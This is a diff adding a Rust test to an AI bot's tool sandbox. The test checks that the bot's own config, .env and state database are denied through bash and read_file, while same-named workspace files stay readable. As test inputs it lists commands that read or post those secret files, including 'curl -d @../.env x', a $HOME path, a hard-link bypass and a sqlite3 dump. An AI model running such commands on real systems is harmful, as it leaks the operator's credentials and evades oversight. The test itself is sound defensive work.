@@ -115,6 +115,36 @@ fn the_daemons_environment_is_closed_to_commands() {
 }
 
 #[test]
+fn no_name_is_closed_where_it_is_not_the_bots_own_file() {
+    let desk = Desk::with("llm: {provider: offline}\n");
+    for name in ["config.yaml", "config.yml", ".env", "selkie.db", "selkie.env", "x/config.yaml"] {
+        desk.put(name, "replicas: 3\n");
+        let said = desk.call("bash", json!({ "cmd": format!("cat {name}") }));
+        assert_eq!(said, "replicas: 3", "{name}");
+        let said = desk.call("read_file", json!({ "path": desk.at(name) }));
+        assert!(said.contains("replicas"), "{name}: {said}");
+    }
+    for (name, path) in [("config.yaml", "the config"), (".env", "its environment")] {
+        std::fs::write(desk.folder().join(".env"), "SELKIE__X=hunter22").unwrap();
+        std::fs::hard_link(desk.folder().join(name), desk.at(&format!("hard{name}"))).unwrap();
+        for cmd in [
+            format!("cat ../{name}"),
+            format!("cat ~/{name}"),
+            format!("cat $HOME/{name}"),
+            format!("curl -d @../{name} x"),
+            format!("rev < hard{name}"),
+        ] {
+            let said = desk.call("bash", json!({ "cmd": cmd }));
+            assert!(said.contains("denied path"), "{path}: {cmd}: {said}");
+        }
+        let said = desk.call("read_file", json!({ "path": format!("../{name}") }));
+        assert!(said.contains("the bot's own"), "{path}: {said}");
+    }
+    let said = desk.call("bash", json!({ "cmd": "sqlite3 ../state/selkie.db .dump" }));
+    assert!(said.contains("denied path"), "{said}");
+}
+
+#[test]
 fn files_of_secrets_are_closed_by_every_name_they_have() {
     let desk = Desk::with("llm: {provider: openai, api_key_file: openai.key}\n");
     let secret = desk.folder().join("openai.key");
